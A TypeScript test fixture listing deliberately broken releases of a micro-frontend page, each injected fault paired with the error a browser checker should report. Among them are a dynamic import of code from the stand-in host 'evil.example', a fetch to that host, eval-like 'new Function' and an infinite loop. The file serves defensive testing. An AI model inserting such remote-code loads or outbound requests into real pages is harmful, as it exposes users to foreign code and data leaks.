import type { BadRelease, Draft } from './Draft.ts';

/** Runs once, when a browser loads the page's module. */
const atLoad = (code: string) => (draft: Draft) => draft.prepend(draft.page, code);
/** Runs in an effect of the page, as its own code does. */
const inEffect = (code: string) => async (draft: Draft) => {
  // Whatever is rendered on the page runs in a browser once it is there.
  await draft.edit(draft.page, /onClick:\(\)=>/, `ref(){${code}},onClick:()=>`);
};

/** What only a browser sees. */
export const BAD_PAGES: readonly BadRelease[] = [
  {
    what: 'a container that throws in the browser',
    ...{ row: 'pages', says: /\/evenements.*boom in the browser/ },
    change: (draft) => draft.prepend(draft.release.entry, 'throw new Error("boom in the browser");'),
  },
  {
    what: 'a page that throws in the browser',
    ...{ row: 'pages', says: /\/evenements/ },
    change: inEffect('throw new Error("boom")'),
  },
  {
    what: 'a page whose code is not there',
    ...{ row: 'pages', says: /\/evenements/ },
    change: atLoad('import "./absent.js";'),
  },
  {
    what: 'another page in the browser than on the server',
    ...{ row: 'pages', says: /\/evenements/ },
    change: (draft) => draft.edit(draft.page, 'Votre première page', 'Votre page de demain'),
  },
  {
    what: 'an error in the console',
    ...{ row: 'pages', says: /\/evenements: the browser says: oubliée/ },
    change: atLoad('console.error("oubliée");'),
  },
  {
    what: 'a warning in the console',
    ...{ row: 'pages', says: /\/evenements: the browser says: oubliée/ },
    change: atLoad('console.warn("oubliée");'),
  },
  {
    what: 'a promise that nobody waits for',
    ...{ row: 'pages', says: /\/evenements: the browser says: .*perdue/ },
    change: atLoad('void Promise.reject(new Error("perdue"));'),
  },
  {
    what: 'a button that does nothing',
    ...{ row: 'pages', says: /\/evenements: no control answers; pressed: « Applaudir »/ },
    change: (draft) => draft.edit(draft.page, /onClick:\(\)=>/, 'onClick:()=>0&&'),
  },
  {
    what: 'a button that throws',
    ...{ row: 'pages', says: /\/evenements.*boom.*\(after pressing a control\)|no control answers/ },
    change: (draft) => draft.edit(draft.page, /onClick:\(\)=>/, 'onClick:()=>{throw new Error("boom")},x:()=>'),
  },
  {
    what: 'a listener on window that stays',
    ...{ row: 'pages', says: /After a visit to mfe-evenements stays: listener for resize on window/ },
    change: inEffect('addEventListener("resize",()=>{})'),
  },
  {
    what: 'a listener on document that stays',
    ...{ row: 'pages', says: /After a visit to mfe-evenements stays: listener for keydown on document/ },
    change: atLoad('document.addEventListener("keydown",()=>{});'),
  },
  {
    what: 'an interval that goes on',
    ...{ row: 'pages', says: /After a visit to mfe-evenements stays: interval of 250 ms/ },
    change: inEffect('setInterval(()=>{},250)'),
  },
  {
    what: 'an element beside the page that stays',
    ...{ row: 'pages', says: /After a visit to mfe-evenements stays: <aside> element/ },
    change: inEffect('document.body.append(document.createElement("aside"))'),
  },
  {
    what: 'a style sheet for everybody',
    ...{ row: 'pages', says: /looks different after a visit to mfe-evenements: .*color of/ },
    change: inEffect(
      'const s=new CSSStyleSheet();s.replaceSync("h1,a,p{color:red}");document.adoptedStyleSheets=[...document.adoptedStyleSheets,s]',
    ),
  },
  {
    what: 'a colour of the kit changed for everybody',
    ...{ row: 'pages', says: /looks different after a visit to mfe-evenements/ },
    change: inEffect('document.documentElement.style.setProperty("--ag-ink","rgb(1, 2, 3)")'),
  },
  {
    what: 'a style element, which the policy refuses',
    ...{ row: 'pages', says: /\/evenements: the browser says: .*[Cc]ontent [Ss]ecurity/ },
    change: inEffect(
      'document.head.append(Object.assign(document.createElement("style"),{textContent:"p{color:red}"}))',
    ),
  },
  {
    what: 'code of another site',
    ...{ row: 'pages', says: /https:\/\/evil\.example\/a\.js was asked for/ },
    change: atLoad('void import("https://evil.example/a.js").catch(()=>{});'),
  },
  {
    what: 'data for another site',
    ...{ row: 'pages', says: /\/evenements: the browser says: .*evil\.example/ },
    change: atLoad('void fetch("https://evil.example/").catch(()=>{});'),
  },
  {
    what: 'code made of text',
    ...{ row: 'pages', says: /\/evenements: the browser says/ },
    change: inEffect('try{new Function("1")()}catch{}'),
  },
  {
    what: 'a browser that hangs',
    ...{ row: 'pages', says: /\/evenements cannot be used in a browser/, isSlow: true },
    change: atLoad('for(;;);'),
  },
];
